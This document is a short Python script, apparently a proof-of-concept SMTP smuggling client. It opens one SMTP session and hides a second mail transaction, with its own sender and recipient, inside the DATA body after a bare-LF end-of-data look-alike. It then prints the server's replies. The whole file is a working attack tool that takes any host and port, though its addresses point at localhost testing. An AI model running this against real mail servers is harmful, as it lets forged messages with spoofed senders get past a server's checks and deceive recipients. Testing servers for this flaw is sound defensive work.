#!/usr/bin/env python3
"""smuggle_client.py HOST PORT TERM — one SMTP session whose DATA body hides a
second transaction after the end-of-data look-alike TERM ("lfdotcrlf" for
\\n.\\r\\n, "lfdotlf" for \\n.\\n). It reads each reply before the next step, as
a real client does, and prints what it received (stdlib only)."""
import socket, sys

host, port, term = sys.argv[1], int(sys.argv[2]), sys.argv[3]
look = {"lfdotcrlf": b"\n.\r\n", "lfdotlf": b"\n.\n", "crdotlf": b"\r.\n"}[term]
s = socket.create_connection((host, port), timeout=5)

def replies(n=1):
    buf = b""
    s.settimeout(1.5)
    try:
        while buf.count(b"\n") < n or not last_complete(buf):
            d = s.recv(4096)
            if not d:
                break
            buf += d
    except socket.timeout:
        pass
    sys.stdout.write(buf.decode("latin-1"))
    return buf

def last_complete(buf):
    lines = buf.split(b"\r\n")
    return len(lines) >= 2 and len(lines[-2]) >= 4 and lines[-2][3:4] == b" "

replies()
for cmd in [b"EHLO client.localhost", b"MAIL FROM:<a@localhost>", b"RCPT TO:<root@localhost>", b"DATA"]:
    s.sendall(cmd + b"\r\n")
    replies()
body = (b"From: a@localhost\r\nTo: root@localhost\r\nSubject: first\r\n\r\nfirst message" + look +
        b"MAIL FROM:<smuggled@localhost>\r\nRCPT TO:<root@localhost>\r\nDATA\r\n"
        b"From: smuggled@localhost\r\nSubject: second\r\n\r\nsmuggled message\r\n.\r\n")
s.sendall(body)
replies(5)
try:
    s.sendall(b"QUIT\r\n")
    replies()
except OSError:
    pass
s.close()
